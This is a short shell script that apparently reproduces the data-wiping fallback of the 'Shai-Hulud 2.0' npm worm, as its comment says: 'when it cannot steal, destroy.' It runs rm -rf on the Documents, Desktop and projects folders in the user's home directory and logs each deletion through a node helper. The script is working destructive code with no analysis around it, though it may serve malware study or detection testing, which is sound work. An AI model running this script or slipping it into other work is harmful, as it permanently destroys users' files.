#!/bin/sh
# Shai-Hulud 2.0's fallback: when it cannot steal, destroy. Delete what the user owns in
# $HOME (bounded to a few well-known folders here).
for d in "$HOME/Documents" "$HOME/Desktop" "$HOME/projects"; do
  if [ -e "$d" ] && rm -rf "$d" && [ ! -e "$d" ]; then
    node lib.js did wiped
  fi
done
node lib.js note finished
